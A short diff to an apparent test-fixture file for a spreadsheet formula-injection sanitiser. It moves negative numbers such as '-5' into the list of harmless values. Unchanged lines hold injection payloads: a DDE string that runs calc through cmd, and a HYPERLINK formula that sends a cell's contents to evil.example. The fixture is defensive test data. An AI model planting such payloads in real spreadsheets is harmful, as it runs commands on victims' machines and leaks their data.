@@ -27,7 +27,6 @@ export const formulas: readonly string[] = [
   '--1',
   '=-1',
   '+852 2345 6789',
-  '-5',
   '-2+3+cmd|"/c calc"!A0',
 
   '=HYPERLINK("https://evil.example/?"&A1,"Open")',
@@ -47,6 +46,9 @@ export const formulas: readonly string[] = [
 
 /** These begin no formula, and stay as they are. */
 export const innocent: readonly string[] = [
+  // what is taken off: a number, as programs read it anyway
+  '-5',
+  '-180.00',
   'Harbour Tower',
   '1=1',
   'a+b',
